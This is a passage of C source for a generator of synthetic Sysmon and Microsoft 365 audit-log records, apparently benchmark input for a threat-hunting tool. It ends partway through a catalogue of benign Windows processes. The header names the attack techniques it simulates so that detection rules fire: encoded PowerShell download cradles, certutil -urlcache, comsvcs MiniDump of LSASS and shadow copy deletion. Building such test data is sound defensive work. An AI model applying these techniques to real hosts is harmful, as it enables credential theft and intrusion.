/*
 * gen_events.c - deterministic generator of benchmark input for `yagura hunt`.
 *
 * EVERYTHING THIS PROGRAM WRITES IS GENERATED: no record comes from a real machine or tenant.
 * The records imitate two real sources, one JSON document per line:
 *
 * (a) Sysmon events (Microsoft-Windows-Sysmon/Operational) as rendered to JSON by evtx_dump:
 *     {"Event":{"#attributes":{"xmlns":...},"System":{...},"EventData":{...}}}, written compact
 *     on one line. Field names, field order, nesting and value formats (numbers for ProcessId,
 *     EventRecordID, SourcePort, QueryStatus; strings for LogonId "0x3144c", Initiated "true",
 *     Hashes "SHA1=...,MD5=...,SHA256=...,IMPHASH=...", GUIDs in upper case, SystemTime with
 *     microseconds, UtcTime with milliseconds) follow SigmaHQ's regression data, of which a part
 *     is in ../shared/sigma/regression/ (for example process_creation/
 *     proc_creation_win_curl_custom_user_agent, process_access/
 *     proc_access_win_werfaultsecure_msmpeng_access, image_load/
 *     image_load_win_werfaultsecure_dbgcore_dbghelp_load, file_event/
 *     file_event_win_creation_system_file, registry_set/registry_set_disable_system_restore)
 *     and, for event IDs 3 and 22, SigmaHQ's network_connection and dns_query regression files.
 *     Event IDs 1, 3, 5, 7, 10, 11, 12, 13 and 22 are produced in proportions of a typical
 *     workstation fleet (see sysmon_mix). Each host keeps a table of running processes so that
 *     ProcessGuid/ProcessId/Image/User agree between a process creation and the later events
 *     of that process, as they do in real logs; GUIDs carry the host prefix, the start time and
 *     a per-host counter, and LogonGuid carries the little-endian LogonId, as Sysmon's do.
 *
 * (b) Microsoft 365 Unified Audit Log records as returned by the Office 365 Management Activity
 *     API: SharePoint/OneDrive file operations, Exchange MailItemsAccessed, Send,
 *     Set-Mailbox/New-InboxRule, and Azure AD UserLoggedIn/UserLoginFailed. Shapes follow
 *     ../shared/logs/elastic-integrations/o365/ (test-sharepointfileop-events,
 *     test-exchange-item.log), ../shared/logs/otrf-security-datasets/GoldenSAMLADFSMailAccess/
 *     OfficeActivityEvents.json (MailItemsAccessed fields) and ../shared/logs/
 *     panther-analysis-tests/Microsoft365_Audit_*.tests.jsonl (Azure AD logon and Exchange admin
 *     fields). The common schema comes first in the API's order (CreationTime, Id, Operation,
 *     OrganizationId, RecordType, UserKey, UserType, Version, Workload, ClientIP, ObjectId,
 *     UserId); RecordType, UserType and Version are numbers as in the API schema and the
 *     Exchange sample (Elastic's SharePoint sample carries them as strings). Folders and
 *     OperationProperties are JSON arrays as the API returns them (the Sentinel export in the
 *     OTRF data flattens them into strings).
 *
 * A small fraction of Sysmon events (default 0.1 %) are attack-like: encoded PowerShell
 * download cradles, rundll32 by ordinal, certutil -urlcache, comsvcs MiniDump, shadow copy
 * deletion, Run-key persistence, LSASS access, so that SigmaHQ rules fire on the data.
 *
 * Output is a pure function of the arguments: one splitmix64 stream seeded by --seed drives every
 * choice, only integer arithmetic is used after argument parsing, no clock, locale or address is
 * consulted, and no expression draws two random numbers (C leaves the order of evaluation of
 * operands and arguments unspecified, so compilers could draw them in different orders). The same
 * arguments therefore give byte-identical files on every machine and with every compiler.
 *
 * Usage: gen_events [--bytes N] [--seed S] [--m365-ratio R] [--malicious-ratio R] -o FILE
 *   --bytes N           stop after the line that reaches N bytes (suffixes K, M, G = KiB, MiB,
 *                       GiB); default 1G
 *   --seed S            PRNG seed, default 1
 *   --m365-ratio R      fraction of records that are Microsoft 365 audit records, default 0.2
 *   --malicious-ratio R fraction of Sysmon events that are attack-like, default 0.001
 *   -o FILE             output file ("-" for standard output)
 */

#include <errno.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---------------------------------------------------------------- random numbers */

typedef struct {
    uint64_t s;
} rng_t;

static uint64_t rnd(rng_t *r)
{
    uint64_t z = (r->s += UINT64_C(0x9E3779B97F4A7C15));
    z = (z ^ (z >> 30)) * UINT64_C(0xBF58476D1CE4E5B9);
    z = (z ^ (z >> 27)) * UINT64_C(0x94D049BB133111EB);
    return z ^ (z >> 31);
}

/* Uniform in [0, n) by multiply-shift; n > 0. */
static uint32_t below(rng_t *r, uint32_t n)
{
    return (uint32_t)(((rnd(r) >> 32) * (uint64_t)n) >> 32);
}

static uint32_t range(rng_t *r, uint32_t lo, uint32_t hi)
{
    return lo + below(r, hi - lo + 1);
}

/* True with probability ppm / 1,000,000. */
static int chance_ppm(rng_t *r, uint32_t ppm)
{
    return below(r, 1000000) < ppm;
}

static uint64_t fnv1a(const char *s)
{
    uint64_t h = UINT64_C(0xCBF29CE484222325);
    for (; *s; s++) {
        h ^= (unsigned char)*s;
        h *= UINT64_C(0x100000001B3);
    }
    return h;
}

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

static const char *pick(rng_t *r, const char *const *v, size_t n)
{
    return v[below(r, (uint32_t)n)];
}
#define PICK(r, a) pick((r), (a), COUNT(a))

/* Index into a table of integer weights. */
static size_t pick_weighted(rng_t *r, const unsigned *w, size_t n)
{
    unsigned total = 0;
    for (size_t i = 0; i < n; i++)
        total += w[i];
    unsigned x = below(r, total);
    for (size_t i = 0; i < n; i++) {
        if (x < w[i])
            return i;
        x -= w[i];
    }
    return n - 1;
}

/* ---------------------------------------------------------------- output buffer */

typedef struct {
    char *d;
    size_t n, cap;
    int comma; /* a value was just written: the next key or element needs a comma */
} buf_t;

static void die(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fputs("gen_events: ", stderr);
    vfprintf(stderr, fmt, ap);
    fputc('\n', stderr);
    va_end(ap);
    exit(1);
}

static void b_reserve(buf_t *b, size_t extra)
{
    if (b->n + extra <= b->cap)
        return;
    size_t cap = b->cap ? b->cap : 4096;
    while (cap < b->n + extra)
        cap *= 2;
    char *d = realloc(b->d, cap);
    if (!d)
        die("out of memory");
    b->d = d;
    b->cap = cap;
}

static void b_put(buf_t *b, const char *s, size_t len)
{
    b_reserve(b, len);
    memcpy(b->d + b->n, s, len);
    b->n += len;
}

static void b_puts(buf_t *b, const char *s)
{
    b_put(b, s, strlen(s));
}

static void b_putc(buf_t *b, char c)
{
    b_reserve(b, 1);
    b->d[b->n++] = c;
}

static void b_u64(buf_t *b, uint64_t v)
{
    char tmp[24];
    int i = (int)sizeof(tmp);
    do {
        tmp[--i] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    b_put(b, tmp + i, sizeof(tmp) - (size_t)i);
}

static const char HEX_UP[] = "0123456789ABCDEF";
static const char HEX_LO[] = "0123456789abcdef";

/* JSON string body: escapes quote, backslash and control characters. */
static void b_esc(buf_t *b, const char *s)
{
    const char *run = s;
    for (; *s; s++) {
        unsigned char c = (unsigned char)*s;
        if (c != '"' && c != '\\' && c >= 0x20)
            continue;
        b_put(b, run, (size_t)(s - run));
        run = s + 1;
        switch (c) {
        case '"': b_puts(b, "\\\""); break;
        case '\\': b_puts(b, "\\\\"); break;
        case '\n': b_puts(b, "\\n"); break;
        case '\r': b_puts(b, "\\r"); break;
        case '\t': b_puts(b, "\\t"); break;
        default: {
            char u[7] = {'\\', 'u', '0', '0', HEX_LO[c >> 4], HEX_LO[c & 15], 0};
            b_puts(b, u);
        }
        }
    }
    b_put(b, run, (size_t)(s - run));
}

/* Minimal JSON writer: the comma flag is all the state nesting needs. */
static void j_key(buf_t *b, const char *k)
{
    if (b->comma)
        b_putc(b, ',');
    b_putc(b, '"');
    b_puts(b, k);
    b_puts(b, "\":");
    b->comma = 0;
}

static void j_str(buf_t *b, const char *k, const char *v)
{
    j_key(b, k);
    b_putc(b, '"');
    b_esc(b, v);
    b_putc(b, '"');
    b->comma = 1;
}

static void j_u64(buf_t *b, const char *k, uint64_t v)
{
    j_key(b, k);
    b_u64(b, v);
    b->comma = 1;
}

static void j_raw(buf_t *b, const char *k, const char *raw)
{
    j_key(b, k);
    b_puts(b, raw);
    b->comma = 1;
}

static void j_open(buf_t *b, const char *k)
{
    if (k)
        j_key(b, k);
    else if (b->comma)
        b_putc(b, ',');
    b_putc(b, '{');
    b->comma = 0;
}

static void j_close(buf_t *b)
{
    b_putc(b, '}');
    b->comma = 1;
}

static void j_arr(buf_t *b, const char *k)
{
    j_key(b, k);
    b_putc(b, '[');
    b->comma = 0;
}

static void j_arr_close(buf_t *b)
{
    b_putc(b, ']');
    b->comma = 1;
}

/* {"Name":name,"Value":value} element of a Name/Value array. */
static void j_nv(buf_t *b, const char *name, const char *value)
{
    j_open(b, NULL);
    j_str(b, "Name", name);
    j_str(b, "Value", value);
    j_close(b);
}

/* ---------------------------------------------------------------- small formatters */

/* Bounded string builder over a caller's array. */
typedef struct {
    char *p;
    size_t n, cap;
} str_t;

static void s_init(str_t *s, char *p, size_t cap)
{
    s->p = p;
    s->n = 0;
    s->cap = cap;
    p[0] = 0;
}

static void s_putc(str_t *s, char c)
{
    if (s->n + 1 < s->cap) {
        s->p[s->n++] = c;
        s->p[s->n] = 0;
    }
}

static void s_puts(str_t *s, const char *t)
{
    for (; *t; t++)
        s_putc(s, *t);
}

static void s_hex(str_t *s, uint64_t v, int digits, int upper)
{
    const char *h = upper ? HEX_UP : HEX_LO;
    for (int i = digits - 1; i >= 0; i--)
        s_putc(s, h[(v >> (4 * i)) & 15]);
}

static void s_u64(str_t *s, uint64_t v)
{
    char tmp[24];
    int i = (int)sizeof(tmp) - 1;
    tmp[i] = 0;
    do {
        tmp[--i] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    s_puts(s, tmp + i);
}

static void s_fmt(str_t *s, const char *fmt, ...)
{
    char tmp[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(tmp, sizeof(tmp), fmt, ap);
    va_end(ap);
    s_puts(s, tmp);
}

static void fmt_guid(char *out, rng_t *r, int upper)
{
    str_t s;
    s_init(&s, out, 40);
    s_hex(&s, rnd(r) & 0xFFFFFFFFu, 8, upper);
    s_putc(&s, '-');
    s_hex(&s, rnd(r) & 0xFFFF, 4, upper);
    s_putc(&s, '-');
    s_hex(&s, 0x4000 | (rnd(r) & 0x0FFF), 4, upper);
    s_putc(&s, '-');
    s_hex(&s, 0x8000 | (rnd(r) & 0x3FFF), 4, upper);
    s_putc(&s, '-');
    s_hex(&s, rnd(r) & UINT64_C(0xFFFFFFFFFFFF), 12, upper);
}

/* Civil date from days since 1970-01-01 (Howard Hinnant's algorithm). */
static void civil(int64_t days, int *y, unsigned *m, unsigned *d)
{
    days += 719468;
    int64_t era = (days >= 0 ? days : days - 146096) / 146097;
    unsigned doe = (unsigned)(days - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t yy = (int64_t)yoe + era * 400;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int)(yy + (*m <= 2));
}

enum { TS_SYSTEM, TS_UTC, TS_M365 };

/* Microseconds since the epoch as "2025-03-03T08:00:00.123456Z" (TS_SYSTEM), "2025-03-03
 * 08:00:00.123" (TS_UTC) or "2025-03-03T08:00:00" (TS_M365). */
static void fmt_time(char *out, uint64_t us, int style)
{
    uint64_t secs = us / 1000000;
    unsigned frac = (unsigned)(us % 1000000);
    int y;
    unsigned mo, d;
    civil((int64_t)(secs / 86400), &y, &mo, &d);
    unsigned sod = (unsigned)(secs % 86400);
    unsigned hh = sod / 3600, mm = sod / 60 % 60, ss = sod % 60;
    switch (style) {
    case TS_SYSTEM:
        snprintf(out, 40, "%04d-%02u-%02uT%02u:%02u:%02u.%06uZ", y, mo, d, hh, mm, ss, frac);
        break;
    case TS_UTC:
        snprintf(out, 40, "%04d-%02u-%02u %02u:%02u:%02u.%03u", y, mo, d, hh, mm, ss, frac / 1000);
        break;
    default: snprintf(out, 40, "%04d-%02u-%02uT%02u:%02u:%02u", y, mo, d, hh, mm, ss); break;
    }
}

static const char B64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/* Base64 of the UTF-16LE encoding of an ASCII string: what powershell -EncodedCommand takes. */
static void b64_utf16le(str_t *s, const char *ascii)
{
    unsigned char in[3];
    int k = 0;
    size_t len = strlen(ascii);
    for (size_t i = 0; i < 2 * len; i++) {
        in[k++] = (unsigned char)(i % 2 ? 0 : ascii[i / 2]);
        if (k == 3 || i + 1 == 2 * len) {
            unsigned v =
                (unsigned)in[0] << 16 | (k > 1 ? (unsigned)in[1] << 8 : 0) | (k > 2 ? in[2] : 0);
            s_putc(s, B64[v >> 18 & 63]);
            s_putc(s, B64[v >> 12 & 63]);
            s_putc(s, k > 1 ? B64[v >> 6 & 63] : '=');
            s_putc(s, k > 2 ? B64[v & 63] : '=');
            k = 0;
        }
    }
}

/* ---------------------------------------------------------------- people and machines */

static const char *const FIRST[] = {
    "james",   "mary",  "john",   "patricia", "robert", "jennifer", "michael", "linda",
    "david",   "susan", "daniel", "jessica",  "thomas", "sarah",    "kenji",   "yuki",
    "hiroshi", "aiko",  "wei",    "mei",      "arjun",  "priya",    "omar",    "fatima",
    "lukas",   "anna",  "mateo",  "sofia",    "pierre", "camille",  "olga",    "ivan",
    "kwame",   "amara", "sven",   "ingrid",   "diego",  "lucia",    "noah",    "emma"};
static const char *const LAST[] = {
    "smith",   "johnson", "williams", "brown",    "jones",  "garcia",  "miller",  "davis",
    "tanaka",  "suzuki",  "sato",     "watanabe", "chen",   "wang",    "patel",   "sharma",
    "haddad",  "mansour", "muller",   "schmidt",  "rossi",  "bianchi", "dubois",  "martin",
    "ivanova", "petrov",  "mensah",   "okafor",   "larsen", "nilsen",  "lopez",   "fernandez",
    "kim",     "park",    "nguyen",   "tran",     "cohen",  "levi",    "oconnor", "murphy"};

#define N_USERS 400
#define N_HOSTS 240
#define N_SERVERS 16
#define RING 40
#define PINNED 7

typedef struct {
    char sam[24]; /* jsmith */
    char upn[64]; /* james.smith@contoso.com */
    char first[16], last[16];
    uint32_t rid;
    uint64_t puid; /* Microsoft account PUID, the UserKey of Exchange and Azure AD records */
    char oid[40];  /* Azure AD object id */
    char mbx[40];  /* MailboxGuid */
    uint32_t home_ip;
} user_t;

typedef struct {
    int def; /* catalogue index, -1 = free slot */
    uint32_t pid;
    int user; /* >= 0 user index; CTX_* for service accounts */
    char guid[40];
    char cmd[640];
} proc_t;

typedef struct {
    char fqdn[48];
    uint32_t guid_prefix;
    char guid_tail[16];
    uint32_t sysmon_pid, sysmon_tid;
    uint64_t record_id;
    uint32_t proc_counter;
    uint32_t boot_secs;
    int user;
    uint64_t logon_id;
    uint32_t logon_secs;
    uint32_t ip;
    int ready;
    int next_slot;
    proc_t procs[RING];
} host_t;

enum { CTX_USER = 0, CTX_SYSTEM = -1, CTX_LOCAL = -2, CTX_NETWORK = -3, CTX_ADMIN = -4 };

enum {
    F_NET = 1,
    F_BROWSER = 2,
    F_OFFICE = 4,
    F_SVC = 8,
    F_AV = 16,
    F_SHELL = 32,
    F_SYNC = 64,
};

typedef struct {
    const char *name;  /* catalogue key */
    const char *image; /* may contain {U} */
    const char *orig, *desc, *product, *company, *version;
    const char *parent; /* catalogue key of the usual parent */
    int ctx;            /* CTX_USER: the host's user; else a service account */
    const char *integrity;
    unsigned weight; /* share among benign process creations */
    unsigned flags;
    const char *cmd[3]; /* command-line templates */
    const char *cwd;
} pdef_t;

#define WINOS "Microsoft\\u00ae Windows\\u00ae Operating System"
#define WINVER "10.0.22621.4391 (WinBuild.160101.0800)"
#define MS "Microsoft Corporation"
#define DEFENDER_DIR "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\"
#define OFFICE_DIR "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
#define CHROME "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
#define EDGE "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
#define CODE "C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"
#define SYS32 "C:\\Windows\\System32\\"
#define CHILD_FLAGS                                                                                \
    " --string-annotations --noerrdialogs --user-data-dir=\"C:\\Users\\{U}\\AppData\\Local\\"

/* Description strings hold the "\u00ae" escape exactly as evtx_dump output carries it; the
 * writer must not escape them again, so they are marked with a leading '\x01' and written raw. */
#define RAW "\x01"

static const pdef_t CATALOG[] = {
    {"services",
     SYS32 "services.exe",
     "services.exe",
     "Services and Controller app",
     RAW WINOS,
     MS,
     WINVER,
     "wininit",
     CTX_SYSTEM,
     "System",
     0,
     F_SVC,
     {SYS32 "services.exe"},
     SYS32},
    {"wininit",
     SYS32 "wininit.exe",
     "wininit.exe",
     "Windows Start-Up Application",
     RAW WINOS,
     MS,
     WINVER,
     "smss",
     CTX_SYSTEM,
     "System",
     0,
     F_SVC,
     {"wininit.exe"},
     SYS32},
    {"lsass",
     SYS32 "lsass.exe",
     "lsass.exe",
     "Local Security Authority Process",
     RAW WINOS,
     MS,
     WINVER,
     "wininit",
     CTX_SYSTEM,
     "System",
     0,
     F_SVC | F_NET,
     {SYS32 "lsass.exe"},
     SYS32},
    {"explorer",
     "C:\\Windows\\explorer.exe",
     "EXPLORER.EXE",
     "Windows Explorer",
     RAW WINOS,
     MS,
     WINVER,
     "userinit",
     CTX_USER,
     "Medium",
     0,
     F_SHELL,
     {"C:\\Windows\\Explorer.EXE"},
     SYS32},
    {"svchost",
     SYS32 "svchost.exe",
     "svchost.exe",
     "Host Process for Windows Services",
     RAW WINOS,
     MS,
     WINVER,
     "services",
     CTX_SYSTEM,
     "System",
     9,
     F_SVC | F_NET,
     {SYS32 "svchost.exe -k netsvcs -p -s Schedule", SYS32 "svchost.exe -k netsvcs -p -s BITS",
      SYS32 "svchost.exe -k DcomLaunch -p"},
     SYS32},
    {"svchost_ls",
     SYS32 "svchost.exe",
     "svchost.exe",
     "Host Process for Windows Services",
     RAW WINOS,
     MS,
     WINVER,
     "services",
     CTX_LOCAL,
     "System",
     4,
     F_SVC | F_NET,
     {SYS32 "svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts",
      SYS32 "svchost.exe -k LocalService -p -s FontCache",
      SYS32 "svchost.exe -k LocalServiceNoNetworkFirewall -p"},
     SYS32},
    {"svchost_ns",
     SYS32 "svchost.exe",
     "svchost.exe",
     "Host Process for Windows Services",
     RAW WINOS,
     MS,
     WINVER,
     "services",
     CTX_NETWORK,
     "System",
     3,
     F_SVC | F_NET,
     {SYS32 "svchost.exe -k NetworkService -p -s Dnscache",
      SYS32 "svchost.exe -k NetworkService -p -s WinRM",
      SYS32 "svchost.exe -k NetworkService -p -s CryptSvc"},
     SYS32},
    {"msmpeng",
     DEFENDER_DIR "MsMpEng.exe",
     "MsMpEng.exe",
     "Antimalware Service Executable",
     RAW WINOS,
     MS,
     "4.18.24090.11 (WinBuild.160101.0800)",
     "services",
     CTX_SYSTEM,
     "System",
     0,
     F_AV | F_NET,
     {"\"" DEFENDER_DIR "MsMpEng.exe\""},
     SYS32},
    {"mpcmdrun",
     DEFENDER_DIR "MpCmdRun.exe",
     "MpCmdRun.exe",
     "Microsoft Malware Protection "
     "Command Line Utility",
     RAW WINOS,
     MS,
     "4.18.24090.11 (WinBuild.160101.0800)",
     "svchost",
     CTX_SYSTEM,
     "System",
     2,
     F_AV | F_NET,
     {"\"" DEFENDER_DIR "MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges "
      "-Reinvoke",
      "\"" DEFENDER_DIR "MpCmdRun.exe\" -IdleTask -TaskName WdCacheMaintenance",
      "\"" DEFENDER_DIR "MpCmdRun.exe\" -wdenable"},
     SYS32},
    {"searchindexer",
     SYS32 "SearchIndexer.exe",
     "SearchIndexer.exe",
     "Microsoft Windows Search Indexer",
     RAW WINOS,
     MS,
     WINVER,
     "services",
     CTX_SYSTEM,
     "System",
     0,
     F_SVC,
     {SYS32 "SearchIndexer.exe /Embedding"},
     SYS32},
    {"chrome",
     CHROME,
     "chrome.exe",
     "Google Chrome",
     "Google Chrome",
     "Google LLC",
     "131.0.6778.86",
     "explorer",
     CTX_USER,
     "Medium",
     2,
     F_BROWSER | F_NET,
     {"\"" CHROME "\" ", "\"" CHROME "\" --restore-last-session",
      "\"" CHROME "\" --profile-directory=Default"},
     "C:\\Program Files\\Google\\Chrome\\Application\\131.0.6778.86\\"},
    {"chrome_child",
     CHROME,
     "chrome.exe",
     "Google Chrome",
     "Google Chrome",
     "Google LLC",
     "131.0.6778.86",
     "chrome",
     CTX_USER,
     "Untrusted",
     14,
     F_BROWSER | F_NET,
     {"\"" CHROME "\" --type=renderer --string-annotations --no-pre-read-main-dll "
      "--video-capture-use-gpu-memory-buffer --lang=en-US --device-scale-factor=1 "
      "--num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={N} "
      "--time-ticks-at-unix-epoch=-1733{N}{N} --launch-time-ticks={N}{N} "
      "--field-trial-handle=1964,i,{N}{N},{N}{N},262144 --variations-seed-version=20241120-"
      "050116.378000 --mojo-platform-channel-handle={N} /prefetch:1",
      "\"" CHROME "\" --type=utility --utility-sub-type=network.mojom.NetworkService "
      "--lang=en-US --service-sandbox-type=none --string-annotations "
      "--field-trial-handle=1964,i,{N}{N},{N}{N},262144 --variations-seed-version=20241120-"
      "050116.378000 --mojo-platform-channel-handle={N} /prefetch:11",
      "\"" CHROME "\" --type=gpu-process --string-annotations --no-pre-read-main-dll "
      "--gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAA"
      "AAAAAAAAAAAAAAAAAAAAAAAAAAAA --field-trial-handle=1964,i,{N}{N},{N}{N},262144 "
      "--mojo-platform-channel-handle={N} /prefetch:2"},
     "C:\\Program Files\\Google\\Chrome\\Application\\131.0.6778.86\\"},
    {"msedge",
     EDGE,
     "msedge.exe",
     "Microsoft Edge",
     "Microsoft Edge",
     MS,
     "131.0.2903.70",
     "explorer",
     CTX_USER,
     "Medium",
     2,
     F_BROWSER | F_NET,
     {"\"" EDGE "\" --single-argument https://contoso.sharepoint.com/sites/Intranet",
      "\"" EDGE "\" --profile-directory=Default", "\"" EDGE "\" "},
     "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\131.0.2903.70\\"},
    {"msedge_child",
     EDGE,
     "msedge.exe",
     "Microsoft Edge",
     "Microsoft Edge",
     MS,
     "131.0.2903.70",
     "msedge",
     CTX_USER,
     "Untrusted",
     10,
     F_BROWSER | F_NET,
     {"\"" EDGE "\" --type=renderer --instant-process --lang=en-US "
      "--js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 "
      "--enable-main-frame-before-activation --renderer-client-id={N} "
      "--field-trial-handle=2144,i,{N}{N},{N}{N},262144 --mojo-platform-channel-handle={N} "
      "/prefetch:1",
      "\"" EDGE "\" --type=utility --utility-sub-type=storage.mojom.StorageService "
      "--lang=en-US --service-sandbox-type=service "
      "--field-trial-handle=2144,i,{N}{N},{N}{N},262144 --mojo-platform-channel-handle={N} "
      "/prefetch:8",
      "\"" EDGE "\" --type=crashpad-handler "
      "--user-data-dir=C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data "
      "/prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "
      "--database=C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Crashpad "
      "--annotation=IsOfficialBuild=1 --annotation=channel= --annotation=chromium-version="
      "131.0.6778.86 --annotation=exe=" EDGE " --annotation=plat=Win64 "
      "--annotation=prod=Edge --annotation=ver=131.0.2903.70 --initial-client-data=0x{x},0x{x}"},
     "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\131.0.2903.70\\"},
    {"teams",
     "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe"
     "\\ms-teams.exe",
     "ms-teams.exe",
     "Microsoft Teams",
     "Microsoft Teams",
     MS,
     "24295.605.3225.8804",
     "explorer",
     CTX_USER,
     "Medium",
     2,
     F_NET,
     {"\"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\"
      "ms-teams.exe\" msteams:system-initiated",
      "\"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\"
      "ms-teams.exe\""},
     "C:\\Users\\{U}\\"},
    {"outlook",
     OFFICE_DIR "OUTLOOK.EXE",
     "Outlook.exe",
     "Microsoft Outlook",
     "Microsoft Office",
     MS,
     "16.0.18129.20158",
     "explorer",
     CTX_USER,
     "Medium",
     1,
     F_OFFICE | F_NET,
     {"\"" OFFICE_DIR "OUTLOOK.EXE\" ", "\"" OFFICE_DIR "OUTLOOK.EXE\" /recycle"},
     "C:\\Users\\{U}\\"},
    {"winword",
     OFFICE_DIR "WINWORD.EXE",
     "WinWord.exe",
     "Microsoft Word",
     "Microsoft Office",
     MS,
     "16.0.18129.20158",
     "explorer",
     CTX_USER,
     "Medium",
     2,
     F_OFFICE | F_NET,
     {"\"" OFFICE_DIR "WINWORD.EXE\" /n \"C:\\Users\\{U}\\OneDrive - Contoso\\Documents\\{D}"
      ".docx\" /o \"\"",
      "\"" OFFICE_DIR "WINWORD.EXE\" /n \"C:\\Users\\{U}\\Downloads\\{D}.docx\" /o \"\""},
     "C:\\Users\\{U}\\Documents\\"},
    {"excel",
     OFFICE_DIR "EXCEL.EXE",
     "Excel.exe",
     "Microsoft Excel",
     "Microsoft Office",
     MS,
     "16.0.18129.20158",
     "explorer",
     CTX_USER,
     "Medium",
     2,
     F_OFFICE | F_NET,
     {"\"" OFFICE_DIR "EXCEL.EXE\" \"C:\\Users\\{U}\\OneDrive - Contoso\\Documents\\{D}.xlsx\"",
      "\"" OFFICE_DIR "EXCEL.EXE\" /dde"},
     "C:\\Users\\{U}\\Documents\\"},
    {"onedrive",
     "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
     "OneDrive.exe",
     "Microsoft OneDrive",
     "Microsoft OneDrive",
     MS,
     "24.226.1110.0004",
     "explorer",
     CTX_USER,
     "Medium",
     1,
     F_SYNC | F_NET,
     {"\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
      "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /updateInstalled /background"},
     "C:\\Users\\{U}\\"},
    {"cmd",
     SYS32 "cmd.exe",
     "Cmd.Exe",
     "Windows Command Processor",
     RAW WINOS,
     MS,
     WINVER,
     "explorer",
     CTX_USER,
     "Medium",
     2,
     F_SHELL,
     {"\"C:\\WINDOWS\\system32\\cmd.exe\" ",
      "C:\\WINDOWS\\system32\\cmd.exe /c \"C:\\Users\\{U}\\Documents\\scripts\\sync-notes.bat\"",
      "\"C:\\WINDOWS\\system32\\cmd.exe\" /K \"C:\\Program Files\\Git\\cmd\\start-ssh-agent.cmd\""},
     "C:\\Users\\{U}\\"},
    {"conhost",
     SYS32 "conhost.exe",
     "CONHOST.EXE",
     "Console Window Host",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_USER,
     "Medium",
     3,
     0,
     {"\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1"},
     SYS32},
    {"powershell",
     SYS32 "WindowsPowerShell\\v1.0\\powershell.exe",
     "PowerShell.EXE",
     "Windows PowerShell",
     RAW WINOS,
     MS,
     WINVER,
     "explorer",
     CTX_USER,
     "Medium",
     1,
     F_SHELL,
     {"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo"},
     "C:\\Users\\{U}\\"},
    {"code",
     CODE,
     "electron.exe",
     "Visual Studio Code",
     "Visual Studio Code",
     MS,
     "1.95.3",
     "explorer",
     CTX_USER,
     "Medium",
     1,
     F_NET,
     {"\"" CODE "\" ", "\"" CODE "\" --type=utility --utility-sub-type=node.mojom.NodeService "
                       "--lang=en-US --service-sandbox-type=none --user-data-dir=\"C:\\Users\\{U}"
                       "\\AppData\\Roaming\\Code\" --standard-schemes=vscode-webview,vscode-file "
                       "--mojo-platform-channel-handle={N} /prefetch:14"},
     "C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\"},
    {"git",
     "C:\\Program Files\\Git\\cmd\\git.exe",
     "git.exe",
     "Git for Windows",
     "Git",
     "The Git Development Community",
     "2.47.1.1",
     "code",
     CTX_USER,
     "Medium",
     3,
     F_NET,
     {"\"C:\\Program Files\\Git\\cmd\\git.exe\" status -z -uall",
      "\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch",
      "\"C:\\Program Files\\Git\\cmd\\git.exe\" rev-parse --show-toplevel"},
     "C:\\Users\\{U}\\source\\repos\\{P}\\"},
    {"taskhostw",
     SYS32 "taskhostw.exe",
     "taskhostw.exe",
     "Host Process for Windows Tasks",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_USER,
     "Medium",
     3,
     0,
     {"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
      "taskhostw.exe -RegisterDevice "
      "-ProtectionStateChanged -FreeNetworkOnly",
      "taskhostw.exe KEYROAMING"},
     SYS32},
    {"bgtaskhost",
     SYS32 "backgroundTaskHost.exe",
     "backgroundTaskHost.exe",
     "Background Task Host",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_USER,
     "Low",
     3,
     0,
     {"\"C:\\WINDOWS\\system32\\backgroundTaskHost.exe\" "
      "-ServerName:BackgroundTaskHost.WebAccountProvider",
      "\"C:\\WINDOWS\\system32\\backgroundTaskHost.exe\" "
